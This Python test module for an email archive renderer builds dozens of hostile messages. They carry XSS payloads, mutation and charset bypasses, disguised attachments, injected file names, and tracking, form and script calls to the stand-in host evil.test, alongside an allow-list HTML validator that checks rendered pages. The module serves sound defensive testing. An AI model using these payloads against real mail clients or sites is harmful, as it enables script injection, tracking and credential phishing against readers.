"""Mails that attack the reader of an archive, and what no page made of them may ever contain.

Each payload of `XSS` does something that a test in a browser can see: it calls `window.xss(1)` or `alert(1)`, or asks
a host of evil.test for something.
"""

# ruff: noqa: E501  (payloads are kept as they are known)
from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

FILES_AT = "../a/TAG/"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
SCRIPT = "<script>window.xss(1)</script>"


def part(kind: str, content: bytes | str, *more: str) -> bytes:
    """One part in base64, so that its bytes arrive exactly; `more` are header lines."""
    data = content.encode() if isinstance(content, str) else content
    head = "\r\n".join([f"Content-Type: {kind}", "Content-Transfer-Encoding: base64", *more])
    return head.encode() + b"\r\n\r\n" + base64.encodebytes(data).replace(b"\n", b"\r\n")


def multipart(*parts: bytes, kind: str = "mixed") -> bytes:
    head = f'Content-Type: multipart/{kind}; boundary="b{kind}"\r\n\r\n'.encode()
    body = b"".join(b"--b%s\r\n%s\r\n" % (kind.encode(), one) for one in parts)
    return head + body + f"--b{kind}--\r\n".encode()


def whole(content: bytes, *, sender: str = "Eve <eve@people.test>", subject: str = "Hello") -> bytes:
    """A mail around `content`, which begins with its own Content-Type."""
    head = (
        f"From: {sender}\r\nTo: list@lists.test\r\nSubject: {subject}\r\n"
        "Date: Mon, 23 Nov 2026 09:00:00 +0000\r\nMessage-ID: <hostile@people.test>\r\nMIME-Version: 1.0\r\n"
    )
    return head.encode("utf-8", "surrogateescape") + content


def html(text: str | bytes, kind: str = "text/html; charset=utf-8") -> bytes:
    return whole(part(kind, text))


def attached(kind: str, content: bytes | str, name: str, *more: str) -> bytes:
    words = part("text/plain; charset=utf-8", "See the file.\n")
    return whole(multipart(words, part(kind, content, f"Content-Disposition: attachment; {name}", *more)))


def with_picture(page: str, picture: bytes) -> bytes:
    return whole(multipart(part("text/html; charset=utf-8", page), picture, kind="related"))


_HTML = {
    "script": SCRIPT,
    "script in capitals": "<ScRiPt>window.xss(1)</sCrIpT>",
    "script not closed": "<p>words</p><script>window.xss(1)//",
    "script within script": "<scr<script>ipt>window.xss(1)</scr</script>ipt>",
    "script from elsewhere": '<script src="//evil.test/a.js"></script>',
    "script with a slash": "<script/x>window.xss(1)</script>",
    "picture onerror": '<img src="x" onerror="window.xss(1)">',
    "picture onerror without quotes": "<img src=x onerror=window.xss(1)//",
    "picture onerror behind slashes": "<img/src=x/onerror=window.xss(1)>",
    "picture from elsewhere": '<img src="https://evil.test/pixel.gif" width="1" height="1">',
    "picture without scheme": '<img src="//evil.test/pixel.gif">',
    "picture srcset": '<img src="cid:none" srcset="https://evil.test/2x.png 2x">',
    "picture in a picture element": '<picture><source srcset="https://evil.test/s.png"><img src="cid:x"></picture>',
    "picture by data": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
    "picture lowsrc and dynsrc": '<img lowsrc="https://evil.test/l" dynsrc="https://evil.test/d">',
    "body onload": '<body onload="window.xss(1)"><p>words</p></body>',
    "body background": '<body background="https://evil.test/b.png">words</body>',
    "table background": '<table background="https://evil.test/t.png"><tr><td background="https://evil.test/c.png">x</table>',
    "svg onload": '<svg onload="window.xss(1)"></svg>',
    "svg script": "<svg><script>window.xss(1)</script></svg>",
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:window.xss(1)"/><text y="9">click</text></a></svg>',
    "svg use": '<svg><use href="https://evil.test/u.svg#x"/></svg>',
    "svg foreignObject": '<svg><foreignObject><iframe src="javascript:parent.xss(1)"></iframe></foreignObject></svg>',
    "math href": '<math><maction actiontype="statusline" xlink:href="javascript:window.xss(1)">click</maction></math>',
    "iframe": '<iframe src="https://evil.test/"></iframe>',
    "iframe javascript": '<iframe src="javascript:parent.xss(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.xss(1)</script>"></iframe>',
    "object": '<object data="https://evil.test/o.swf"></object>',
    "object with html": '<object data="data:text/html,<script>parent.xss(1)</script>"></object>',
    "embed": '<embed src="https://evil.test/e.swf">',
    "base": '<base href="https://evil.test/"><a href="a">a</a><img src="b.png">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "meta refresh to javascript": '<meta http-equiv="refresh" content="0;url=javascript:window.xss(1)">',
    "meta charset": '<meta charset="utf-7">+ADw-script+AD4-window.xss(1)+ADw-/script+AD4-',
    "form": '<form action="https://evil.test/"><input name="password"><button>Log in</button></form>',
    "form action javascript": '<form><button formaction="javascript:window.xss(1)">click</button></form>',
    "input autofocus": '<input autofocus onfocus="window.xss(1)">',
    "input image": '<input type="image" src="https://evil.test/i.png">',
    "select onfocus": '<select autofocus onfocus="window.xss(1)"></select>',
    "textarea onfocus": '<textarea autofocus onfocus="window.xss(1)"></textarea>',
    "details ontoggle": '<details open ontoggle="window.xss(1)"><summary>x</summary></details>',
    "marquee": '<marquee onstart="window.xss(1)">x</marquee>',
    "video": '<video src="https://evil.test/v.mp4" poster="https://evil.test/p.png" onerror="window.xss(1)"></video>',
    "audio": '<audio src="https://evil.test/a.mp3" autoplay onerror="window.xss(1)"></audio>',
    "link style sheet": '<link rel="stylesheet" href="https://evil.test/s.css">',
    "link prefetch": '<link rel="prefetch" href="https://evil.test/p"><link rel="dns-prefetch" href="//evil.test">',
    "style import": '<style>@import url("https://evil.test/s.css");</style><p>x</p>',
    "style attribute url": '<p style="background:url(https://evil.test/b.png)">x</p>',
    "style attribute escaped": '<p style="background:u\\72l(https://evil.test/b.png)">x</p>',
    "style covers the page": '<a href="https://evil.test/" style="position:fixed;inset:0" class="quote" id="search">x</a>',
    "animation event": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart='window.xss(1)'>x</p>",
    "link ping": '<a href="https://example.org/" ping="https://evil.test/ping">click</a>',
    "link with event": '<a href="https://example.org/" onclick="window.xss(1)" onmouseover="window.xss(1)">x</a>',
    "link target": '<a href="https://example.org/" target="_top" download="x.html">x</a>',
    "javascript": '<a href="javascript:window.xss(1)">click</a>',
    "javascript with a tab": '<a href="java\tscript:window.xss(1)">click</a>',
    "javascript with a newline": '<a href="java\nscript:window.xss(1)">click</a>',
    "javascript with entities": '<a href="&#106;&#x61;vascript&colon;window.xss(1)">click</a>',
    "javascript with an entity tab": '<a href="java&Tab;script&NewLine;:window.xss(1)">click</a>',
    "javascript behind a control": '<a href="\x01javascript:window.xss(1)">click</a>',
    "javascript behind blanks": '<a href="  JaVaScRiPt:window.xss(1)">click</a>',
    "vbscript": '<a href="vbscript:alert(1)">click</a>',
    "data link": '<a href="data:text/html,<script>window.xss(1)</script>">click</a>',
    "attribute breaks out": '<a href="https://example.org/&quot;onmouseover=&quot;window.xss(1)">x</a>',
    "alt breaks out": '<img src="cid:pic" alt="&quot;><script>window.xss(1)</script>">',
    "comment": "<!--><script>window.xss(1)</script>-->",
    "comment of a browser": "<!--[if gte IE 4]><script>window.xss(1)</script><![endif]-->",
    "comment ends with a bang": '<!-- --!><img src=x onerror="window.xss(1)"> -->',
    "cdata": "<![CDATA[<script>window.xss(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:window.xss(1)'?><script>window.xss(1)</script>",
    "mutation noscript": '<noscript><p title="</noscript><img src=x onerror=window.xss(1)>"></noscript>',
    "mutation math style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation svg style": '<svg></p><style><a id="</style><img src=1 onerror=window.xss(1)>">',
    "mutation form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.xss(1)></style></mglyph></form>",
    "mutation template": "<template><style></template><img src=x onerror=window.xss(1)></style></template>",
    "mutation select": "<select><style></select><img src=x onerror=window.xss(1)></style></select>",
    "mutation textarea": '<textarea><img title="</textarea><img src=x onerror=window.xss(1)>"></textarea>',
    "mutation xmp": '<xmp><p title="</xmp><img src=x onerror=window.xss(1)>"></xmp>',
    "mutation noembed": '<noembed><a title="</noembed><img src=x onerror=window.xss(1)>"></noembed>',
    "mutation plaintext": "<plaintext><script>window.xss(1)</script>",
    "mutation title": '<title><a title="</title><img src=x onerror=window.xss(1)>"></title>',
    "mutation table": "<table><tr><td><svg><desc><td><img src=x onerror=window.xss(1)></svg></table>",
    "mutation nested links": '<a href="https://example.org/"><table><a href="javascript:window.xss(1)">x</a></table></a>',
    "mutation backtick": "<p title='`<img src=x onerror=window.xss(1)>`'>x</p>",
    "mutation annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.xss(1)></style></annotation-xml></math>',
    "leaves its place": "</div></div></blockquote></details></main></body></html><script>window.xss(1)</script><div>",
    "closes a fold": f"<blockquote></details></summary>{SCRIPT}</blockquote></details><p>after</p>",
    "null bytes": "<scr\0ipt>window.xss(1)</scr\0ipt><img src=x on\0error=window.xss(1)>",
    "entities are not tags": "&lt;script&gt;window.xss(1)&lt;/script&gt;",
    "twice escaped": "&amp;lt;img src=x onerror=window.xss(1)&amp;gt;",
    "custom element": '<x-a onclick="window.xss(1)" tabindex="1" autofocus onfocus="window.xss(1)">x</x-a>',
    "shadow root": '<div><template shadowrootmode="open"><script>window.xss(1)</script></template></div>',
    "portal and fencedframe": '<portal src="https://evil.test/"></portal><fencedframe src="https://evil.test/">',
    "frameset": '<frameset onload="window.xss(1)"><frame src="https://evil.test/"></frameset>',
    "import map": '<script type="importmap">{"imports":{"a":"https://evil.test/a.js"}}</script>',
    "speculation rules": '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/"]}]}</script>',
}

_TEXT = {
    "text with html": f"{SCRIPT}\n<img src=x onerror=window.xss(1)>\n",
    "text with a quote of html": f"Me\n\n> {SCRIPT}\n> </blockquote></details>{SCRIPT}\n",
    "text with html in a signature": f"Me\n-- \n</div>{SCRIPT}\n",
    "text with html in an attribution": f"Me\n\nOn 2026-11-23, {SCRIPT} wrote:\n> words\n",
    "text with html in a header block": f"Me\n\n-----Original Message-----\nFrom: {SCRIPT}\nSent: today\nTo: b\nSubject: c\n",
    "text with a javascript link": "javascript:window.xss(1) and javascript://x.test/%0awindow.xss(1)\n",
    "text link breaks out": 'https://x.test/"onmouseover="window.xss(1) https://x.test/\'><script>window.xss(1)</script>\n',
    "text link with entities": "https://x.test/&quot;onmouseover=&quot;window.xss(1)\n",
    "text www breaks out": 'www.x.test/"><img/src=x/onerror=window.xss(1)>\n',
    "text with null bytes": "<scr\0ipt>window.xss(1)</scr\0ipt>\n",
}

_UTF7 = b"+ADw-script+AD4-window.xss(1)+ADw-/script+AD4-"
_OVERLONG = b"\xc0\xbcscript\xc0\xbewindow.xss(1)\xc0\xbc/script\xc0\xbe"
_JIS = b"<p>\x1b$B\x1b(B<\x1b(Bscript>window.xss(1)</\x1b(Bscript></p><img src=x on\x1b(Berror=window.xss(1)>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
_XML = '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'
_PAGE = f"<html><body>{SCRIPT}<script>alert(1)</script></body></html>"
_CID = '<p>x</p><img src="cid:pic">'
_INLINE = ("Content-ID: <pic>", "Content-Disposition: inline")
_PLAIN = part("text/plain", "x\n")

XSS: tuple[tuple[str, bytes], ...] = (
    *((f"html: {name}", html(page)) for name, page in _HTML.items()),
    *((name, whole(part("text/plain; charset=utf-8", text))) for name, text in _TEXT.items()),
    ("subject", whole(_PLAIN, subject=SCRIPT)),
    ("subject in an encoded word", whole(_PLAIN, subject="=?utf-8?B?PHNjcmlwdD53aW5kb3cueHNzKDEpPC9zY3JpcHQ+?=")),
    ("subject closes the title", whole(_PLAIN, subject=f"</title>{SCRIPT}")),
    ("subject leaves an attribute", whole(_PLAIN, subject='" onmouseover="window.xss(1)" autofocus onfocus="xss(1)')),
    ("display name", whole(_PLAIN, sender=f'"{SCRIPT}" <eve@people.test>')),
    ("display name in an encoded word", whole(_PLAIN, sender="=?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dxss(1)=3E?= <eve@people.test>")),
    ("address", whole(_PLAIN, sender='"<img/src=x/onerror=window.xss(1)>"@people.test')),
    ("charset utf-7", html(_UTF7, "text/html; charset=utf-7")),
    ("charset utf-7 without a name", html(_UTF7, "text/html")),
    ("charset utf-16", html(SCRIPT.encode("utf-16"), "text/html; charset=utf-16")),
    ("charset utf-16le", html(SCRIPT.encode("utf-16-le"), "text/html; charset=utf-16le")),
    ("charset utf-32", html(SCRIPT.encode("utf-32"), "text/html; charset=utf-32")),
    ("charset iso-2022-jp", html(_JIS, "text/html; charset=iso-2022-jp")),
    ("charset overlong utf-8", html(_OVERLONG, "text/html; charset=utf-8")),
    ("charset ebcdic", html(SCRIPT.encode("cp037"), "text/html; charset=cp037")),
    ("charset hz", html(b"<p title='~{'><img src=x onerror=window.xss(1)>~}'>x", "text/html; charset=hz-gb-2312")),
    ("charset name with a script", html("<p>x</p>", f'text/html; charset="{SCRIPT}"')),
    ("charset of text utf-7", whole(part("text/plain; charset=utf-7", _UTF7))),
    ("attached html", attached("text/html", _PAGE, 'filename="page.html"')),
    ("attached html as a picture", attached("image/png", _PAGE, 'filename="page.png"')),
    ("attached html without a type", attached("application/octet-stream", _PAGE, 'filename="page.htm"')),
    ("attached html as text", attached("text/plain", _PAGE, 'filename="page.txt"')),
    ("attached html as pdf", attached("application/pdf", _PAGE, 'filename="page.pdf"')),
    ("attached svg", attached("image/svg+xml", _SVG, 'filename="a.svg"')),
    ("attached svg as png", attached("image/png", _SVG, 'filename="a.png"')),
    ("attached xml", attached("application/xml", _XML, 'filename="a.xml"')),
    ("attached xhtml", attached("application/xhtml+xml", _XML, 'filename="a.xhtml"')),
    ("attached javascript", attached("text/javascript", "alert(1)", 'filename="a.js"')),
    ("attached picture that is html too", attached("image/gif", b"GIF89a/*" + _PAGE.encode() + b"*/", 'filename="a.html"')),
    ("file name with a script", attached("application/pdf", "%PDF", f'filename="{SCRIPT}.pdf"')),
    ("file name leaves an attribute", attached("application/pdf", "%PDF", "filename*=utf-8''%22%20onmouseover=%22xss(1)%22.pdf")),
    ("file name turned round", attached("text/html", _PAGE, "filename*=utf-8''a%E2%80%AEgpj.lmth")),
    ("file name with a path", attached("text/html", _PAGE, 'filename="../../../index.html"')),
    ("file name with a null byte", attached("text/html", _PAGE, "filename*=utf-8''a.html%00.png")),
    ("file name with two endings", attached("text/html", _PAGE, 'filename="a.png.html. "')),
    ("file name with a newline", attached("text/html", _PAGE, "filename*=utf-8''a%0D%0AContent-Type:%20text/html.html")),
    ("attached mail with html", attached("message/rfc822", html(SCRIPT), 'filename="a.eml"')),
    ("nested mail with html", whole(multipart(_PLAIN, b"Content-Type: message/rfc822\r\n\r\n" + html(SCRIPT)))),
    ("nested mail with nested html", whole(b"Content-Type: message/rfc822\r\n\r\n" + whole(
        b"Content-Type: message/rfc822\r\n\r\n" + html(SCRIPT)))),
    ("picture by cid is html", with_picture(_CID, part("text/html", _PAGE, *_INLINE))),
    ("picture by cid is svg", with_picture(_CID, part("image/svg+xml", _SVG, *_INLINE))),
    ("picture by cid says png and is svg", with_picture(_CID, part("image/png", _SVG, *_INLINE))),
    ("picture with events", with_picture(
        '<img src="cid:pic" onload="window.xss(1)" srcset="//evil.test/a 1x" style="background:url(//evil.test/b)">',
        part("image/png", PNG, *_INLINE))),
    ("picture whose cid leaves the attribute", with_picture(
        '<img src="cid:x&quot; onload=&quot;window.xss(1)">',
        part("image/png", PNG, 'Content-ID: <x" onload="window.xss(1)>', "Content-Disposition: inline"))),
    ("two types", whole(b"Content-Type: text/plain\r\n" + part("text/html", SCRIPT))),
    ("type with a comment", whole(part("text/(plain)html", SCRIPT))),
    ("unknown text type", whole(part("text/x-evil", _PAGE))),
    ("text/xml as the text", whole(part("text/xml", _XML))),
    ("html in an alternative only", whole(multipart(
        part("text/plain", "  \n"), part("text/html", SCRIPT), kind="alternative"))),
    ("boundary within a script", whole(
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<scr\r\n--b\r\n"
        b"Content-Type: text/html\r\n\r\nipt>window.xss(1)</script>\r\n--b--\r\n")),
    ("boundary never closed", whole(
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + SCRIPT.encode())),
    ("boundary as a tag", whole(
        b'Content-Type: multipart/mixed; boundary="<script>window.xss(1)</script>"\r\n\r\n' + SCRIPT.encode())),
    ("several html parts make one tag", whole(multipart(
        part("text/html", '<img src="'), part("text/html", '" onerror="window.xss(1)">')))),
    ("text and html make one tag", whole(multipart(
        part("text/plain", "<img src="), part("text/html", "x onerror=window.xss(1)>")))),
)  # fmt: skip


# --- what a page may have ----------------------------------------------------------------------------------------

INLINE = frozenset(("a", "b", "br", "code", "em", "i", "img", "s", "span", "strong", "sub", "sup", "u"))
BLOCKS = frozenset((
    "blockquote", "dd", "details", "div", "dl", "dt", "figcaption", "figure", "hr", "li", "ol", "p", "pre", "summary",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
))  # fmt: skip
VOID = frozenset(("br", "hr", "img"))
CLASSES = frozenset(("text", "text mono", "sig", "quote", "none", "html", "h", "real"))
ATTRIBUTES = {"a": {"href", "rel"}, "img": {"src", "alt", "loading"}, "td": {"colspan", "rowspan"},
              "th": {"colspan", "rowspan"}}  # fmt: skip
INSIDE = {"li": {"ul", "ol"}, "tr": {"table", "tbody", "thead"}, "td": {"tr"}, "th": {"tr"}, "tbody": {"table"},
          "thead": {"table"}, "summary": {"details"}, "dt": {"dl"}, "dd": {"dl"}, "figcaption": {"figure"}}  # fmt: skip
ONLY = {"ul": {"li"}, "ol": {"li"}, "table": {"thead", "tbody", "tr"}, "thead": {"tr"}, "tbody": {"tr"},
        "tr": {"td", "th"}, "dl": {"dt", "dd"}}  # fmt: skip
PHRASING = INLINE | {"p", "pre", "summary"}
"""What holds no block."""
HREF = re.compile(r"(?:https?://|mailto:)[^\x00-\x20\"'<>\\]", re.I)
SRC = re.compile(re.escape(FILES_AT) + r"\d+\.(?:png|jpg|gif|webp)")


class Reader(HTMLParser):
    """Reads a fragment tag by tag; `problems` are in words without any of its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.problems: list[str] = []
        self.events: list[tuple[str, ...]] = []
        self.before = ""  # the tag that was opened last

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("<", tag, *(f"{name}={value}" for name, value in sorted(attrs))))
        above = self.stack[-1] if self.stack else ""
        if tag not in INLINE | BLOCKS:
            self.problems.append(f"<{tag}>")
        if tag in BLOCKS and above in PHRASING:
            self.problems.append(f"<{tag}> within <{above}>")
        if (tag in INSIDE and above not in INSIDE[tag]) or (above in ONLY and tag not in ONLY[above]):
            self.problems.append(f"<{tag}> directly within <{above}>")
        if tag == "a" and "a" in self.stack:
            self.problems.append("a link within a link")
        if above == "details" and self.before == "details" and tag != "summary":
            self.problems.append("details without a summary")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.problems.append("an attribute twice")
        for name, value in attrs:
            self.attribute(tag, name, value or "")
        if tag == "a" and "href" in names and dict(attrs).get("rel") != "nofollow noopener noreferrer":
            self.problems.append("a link without rel")
        if tag == "img" and set(names) != {"src", "alt", "loading"}:
            self.problems.append(f"a picture with {sorted(names)}")
        self.before = tag
        if tag not in VOID:
            self.stack.append(tag)

    def attribute(self, tag: str, name: str, value: str) -> None:
        good = {
            "class": value in CLASSES,
            "href": bool(HREF.match(value)),
            "src": bool(SRC.fullmatch(value)),
            "colspan": value.isdecimal() and 0 < int(value) < 1000,
            "rowspan": value.isdecimal() and 0 < int(value) < 1000,
        }
        if name not in ATTRIBUTES.get(tag, set()) | {"class"} or not good.get(name, True):
            self.problems.append(f"<{tag} {name}={value[:20]!r}>")

    def handle_endtag(self, tag: str) -> None:
        self.events.append((">", tag))
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"</{tag}> is not open")
        else:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            self.events[-1] = ("text", self.events[-1][1] + data)
        else:
            self.events.append(("text", data))
        if data.strip() and self.stack and self.stack[-1] in ONLY:
            self.problems.append(f"text directly within <{self.stack[-1]}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("a processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("an unknown declaration")


def read(fragment: str) -> Reader:
    reader = Reader()
    reader.feed(fragment)
    reader.close()
    if reader.stack:
        reader.problems.append(f"{len(reader.stack)} tags are open at the end")
    return reader


def _elements(reader: Reader) -> list[tuple[str, ...]]:
    """Without addresses of links, for those that lead nowhere ("http://host:port") are left out by nh3."""
    events = [tuple(word for word in event if not word.startswith("href=")) for event in reader.events]
    for at, event in enumerate(events[:-1]):
        if event[:2] == ("<", "pre") and events[at + 1][0] == "text":  # a browser leaves out a line end there
            events[at + 1] = ("text", events[at + 1][1].removeprefix("\n"))
    return [event for event in events if event != ("text", "")]


def problems(fragment: str) -> list[str]:
    """What is wrong with a piece of a page: tags, attributes, addresses, nesting, and whether a browser, which reads
    by the rules of HTML 5, sees the same elements as are written."""
    import nh3

    reader = read(fragment)
    found = list(dict.fromkeys(reader.problems))
    attributes = {tag: {"class", *ATTRIBUTES.get(tag, ())} for tag in INLINE | BLOCKS}
    again = nh3.clean(fragment, tags=set(INLINE | BLOCKS), attributes=attributes, link_rel=None,
                      url_relative="pass_through", url_schemes={"http", "https", "mailto"})  # fmt: skip
    if not found and _elements(read(again)) != _elements(reader):
        found.append("a browser sees other elements than are written")
    return found
